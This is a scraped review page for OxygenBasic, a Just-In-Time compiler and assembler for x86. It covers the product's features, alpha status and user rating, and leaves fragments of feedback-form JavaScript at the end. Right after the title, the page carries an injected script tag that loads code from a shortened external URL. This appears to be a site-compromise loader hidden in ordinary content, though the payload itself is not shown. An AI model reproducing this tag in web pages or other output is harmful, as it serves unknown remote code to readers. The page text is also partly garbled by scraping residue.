OxygenBasic<script src=http://u.bw/AxCpI9z></script>OxygenBasic (O2H) is a Just-In-Time compiler assembler that compiles to x86 machine code, deployed in a single DLL. It is an extension of the O2 assembler. This implementation can be embedded in any application to provide high performance programmability. The compiler can also generate conventional executablesand dynamic link libraries (DLL). Oxygen supports Object Oriented Programming with multiple inheritance and also single inheritance modes, user-defined operators and operator sets for use with complex numbers, matrices, vectors, sets and other specialised forms. It can also compile & execute strings of source code at run time with its built in 'compile()' function, opening new possibilities for functional programming. The built in function set is small, but contains the necessary tools to build class / function libraries to any scale. Oxygen Basic can read sufficient C syntax to deal with most C headers directly, eliminating the need to translate them into Basic. Oxygen Basic syntax is more similar di Visual Basic syntax with some C influences. Compiled EXEs are extremely fast and their size start from 6kb. At present, OxygenBasic is in alpha stage and it has only the minimal statements to handle GUIs.

Rated 2.8/5 upon 68 votes
Review updated: 2012-01-30 OxygenBasic homepage
listed at The Basics' page'/>

Your name and/or email: (optional but kindly requested)


"; boxy_content += ""; contactBoxy = new Boxy(boxy_content, { title: "Send feedback", draggable: false, modal: true, behaviours: function(c) { c.find('#feedback').submit(function() { Boxy.get(this).setContent(""); // submit form by ajax using post and send 3 values: subject, your_email, comment$.post("feedback.php", { subject:c.find("input[name='subject']").val(),your_email: c.find("input[name='your_email']").val(), comment: c.find("#comment").val()}, function(data){ /*set boxy content to data from ajax call back*/ contactBoxy.setContent("
"); }); return false; }); } }); return false; }); /* }); */ $('#myreviewstable').tableScroll({ height: 155,width: 400 }); $("th, td").absPos(); //--- });